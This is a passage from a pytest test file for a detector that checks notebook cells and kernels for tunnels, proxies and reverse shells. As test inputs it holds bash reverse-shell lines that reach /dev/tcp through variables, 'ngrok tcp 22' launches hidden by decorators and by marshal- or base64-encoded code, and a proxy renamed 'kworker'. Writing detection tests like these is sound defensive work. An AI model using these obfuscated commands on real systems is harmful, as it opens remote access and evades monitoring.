    ("a decorator over a helper", ["import os\ndef cmd(_):\n    return 'ngrok tcp 22'\n"
                                   "@os.system\n@cmd\nclass C: pass"]),
    ("marshal'd code", ["import marshal, base64\nexec(marshal.loads(base64.b64decode("
                        "'YwAAAAAAAAAAAAAAAAMAAAAAAAAA8y4AAACXAGQAZAFsAFoAAgBlAGoBAAAAAAAAAABkAqYBAACrAQAAAAAA"
                        "AAAAAQBkAVMAKQPpAAAAAE56DG5ncm9rIHRjcCAyMikC2gJvc9oGc3lzdGVtqQDzAAAAAPoIPHN0cmluZz76CDxt"
                        "b2R1bGU+cgcAAAABAAAAcyYAAADwAwEBAdgACYAJgAmACdgACYAChAmILtEAGdQAGdAAGdAAGdAAGXIFAAAA')))"]),
    ("marshal'd code of this Python", ["import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
        compile("import subprocess\nsubprocess.run(['ngrok', 'tcp', '22'])", "x", "exec"))]),
    ("marshal'd code padded past 4 KiB", ["import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
        compile("import os\nX = %r\nos.system('ngrok tcp 22')" % ("x" * 6000), "x", "exec"))]),
]

#: Read now (fixed in detect/commands.py: a redirection's target a variable spells, expanded)
CELL_GAPS_REVERSE_SHELL = [
    ("/dev/tcp through a variable", ["%%bash\nP=/dev/tc\nbash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
    ("/dev/tcp through a variable on one line", ["!P=/dev/tc; bash -i >& ${P}p/127.0.0.1/4444 0>&1"]),
]


@pytest.mark.parametrize("what, cells", CELL_GAPS_REVERSE_SHELL,
                         ids=[g[0] for g in CELL_GAPS_REVERSE_SHELL])
def test_dev_tcp_spelled_through_a_variable_is_refused(what, cells):
    """Was missed: the run: line kept ``${P}p`` (a redirection is no argv, so the shell's
    variables never reached it). Fixed: such a redirection is a run: line of its own,
    expanded (``run: >& /dev/tcp/127.0.0.1/4444``)."""
    assert "cell-reverse-shell" in _cell_signatures(*cells), what


@pytest.mark.parametrize("cells", [
    ["%%bash\nP=/dev/tcp\ntimeout 1 bash -c \"<$P/127.0.0.1/8888\" && echo up"],
    ["!H=127.0.0.1; exec 3<>/dev/tcp/$H/8888; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; head -1 <&3"],
    ["%%bash\nOUT=/tmp/log\npython train.py > $OUT 2>&1"],
], ids=["a port check", "an HTTP check", "a log redirected"])
def test_honest_redirections_through_variables_are_left_alone(cells):
    assert _cell_signatures(*cells) == set()


@pytest.mark.parametrize("what, cells", CELL_GAPS_READ, ids=[g[0] for g in CELL_GAPS_READ])
def test_cell_check_gaps_closed(what, cells):
    assert "proxy-known-tool" in _cell_signatures(*cells), what


HONEST_TABLES_DEFAULTS_DECORATORS = [
    ("a dictionary of activations", "import torch\nacts = {'relu': torch.relu, 'gelu': torch.tanh}\n"
                                    "y = acts['relu'](x)"),
    ("a table of runners on an honest command", "import subprocess\nrun = {'train': subprocess.run}\n"
                                                "run['train'](['python', 'train.py', '--epochs', '3'])"),
    ("a table replaced by printers", "import os\nd = {'go': os.system}\nd = {'go': print}\n"
                                     "d['go']('ngrok tcp 22 is blocked here')"),
    ("a default logger", "(lambda log=print: log('ngrok tcp 22 is blocked'))()"),
    ("a default runner on nvidia-smi", "import subprocess\ndef sh(cmd, run=subprocess.run):\n"
                                       "    return run(cmd, shell=True)\nsh('nvidia-smi')"),
    ("a cached function", "import functools\n@functools.lru_cache(maxsize=None)\n"
                          "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)"),
    ("a bare os.system decorator (a TypeError: nothing runs)", "import os\n@os.system\ndef f(): pass"),
    ("a decorator naming a tool in a route", "@app.route('/ngrok')\ndef hook():\n    return 'ok'"),
    ("marshal'd code that prints", "import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
        compile("import os\nprint(os.path.join('ngrok', 'tcp 22'))", "x", "exec"))),
    ("marshal'd code running nvidia-smi", "import marshal\nexec(marshal.loads(%r))" % marshal.dumps(
        compile("import os\nos.system('nvidia-smi -L')", "x", "exec"))),
]


@pytest.mark.parametrize("what, cell", HONEST_TABLES_DEFAULTS_DECORATORS,
                         ids=[h[0] for h in HONEST_TABLES_DEFAULTS_DECORATORS])
def test_honest_tables_defaults_decorators_and_marshal_are_left_alone(what, cell):
    assert _cell_signatures(cell) == set(), what


# ---------------------------------------------------------------- a frozen guard (no watcher)


def test_a_proxy_started_while_the_server_is_frozen_is_stopped_when_it_resumes(server, kernel,
                                                                                 tmp_path):
    """Standalone (no node watcher), the user freezes their own server: nothing can act while
    it is frozen (the node watcher is the answer, tests/test_watch.py), but once it resumes the
    program started meanwhile is stopped and recorded, in the guard's first seconds back."""
    import signal

    tool = _copy("microsocks", tmp_path, "kworker")
    os.kill(server.process.pid, signal.SIGSTOP)
    try:
        pid, _ = kernel.start([tool, "-i", "127.0.0.1", "-p", str(_port())])
        time.sleep(2)  # the freeze lasts (what the test is about), then the server resumes
    finally:
        os.kill(server.process.pid, signal.SIGCONT)
    resumed = time.time()
    assert_stopped_in_time(kernel, pid, resumed, "proxy")
